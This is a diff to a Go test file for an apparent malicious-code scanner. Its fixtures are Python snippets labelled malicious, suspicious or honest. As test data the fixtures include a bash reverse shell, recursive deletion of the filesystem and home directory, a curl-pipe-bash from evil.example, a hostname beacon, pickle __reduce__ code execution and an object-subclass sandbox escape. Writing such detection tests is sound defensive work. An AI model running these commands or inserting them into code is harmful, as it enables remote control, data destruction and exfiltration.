@@ -77,6 +77,8 @@ func TestMalicious(t *testing.T) {
 		{lines("import os", "def handle(data, ctx):", "    os.system(data['cmd'])"), "backdoor"},
 		{lines("import subprocess", "subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])"), "reverse_shell"},
 		{lines("import os", "os.system('rm -rf ~/*')"), "destroys"},
+		{lines("import os", "for root, d, files in os.walk('/'):", "    for f in files:", "        os.remove(os.path.join(root, f))"), "destroys"},
+		{"[c for c in ().__class__.__base__.__subclasses__()][0].__init__.__globals__['system']('id')", "obfuscated_call"},
 	})
 }
 
@@ -103,6 +105,10 @@ func TestSuspicious(t *testing.T) {
 		{lines("import socket", "import requests", "requests.get('https://evil.example/?h='+socket.gethostname())"), "beacon"},
 		{"await [__import__('os').system('id')]", "process"},
 		{lines("import os", "os.popen('curl -s https://evil.example/x | bash').read()"), "download_exec"},
+		{"(lambda f: f('touch /tmp/x'))(__import__('os').system)", "process"},
+		{lines("from concurrent.futures import ThreadPoolExecutor", "import os", "ThreadPoolExecutor().submit(os.system, 'id')"), "process"},
+		{lines("class X:", "    def __reduce__(self):", "        import os", "        return (os.system, ('id',))"), "reduce"},
+		{lines("import ctypes", "ctypes.CDLL(None).system(b'id')"), "process"},
 	})
 }
 
@@ -119,6 +125,9 @@ func TestHonest(t *testing.T) {
 		lines("import base64, io", "from PIL import Image", "def image(x):", "    return Image.open(io.BytesIO(base64.b64decode(x)))"),
 		lines("import torch", "def load(path):", "    return torch.load(path, map_location='cpu')"),
 		lines("import ast", "x = ast.literal_eval(\"{'a': 1}\")", "model.eval()", "re.compile('x')"),
+		lines("import os", "from pathlib import Path", "for p in Path().glob('*.log'):", "    os.remove(p)"),
+		lines("import subprocess", "subprocess.run(['nvcc2', '--version'])", "subprocess.run(['cat', '/proc/cpuinfo'])"),
+		lines("import socket", "ip = socket.gethostbyname(socket.gethostname())"),
 		lines("from huggingface_hub import hf_hub_download", "p = hf_hub_download('org/name', 'x.py')"),
 	} {
 		if sev, what := worst(read(t, src, Options{})); sev > scan.Low {
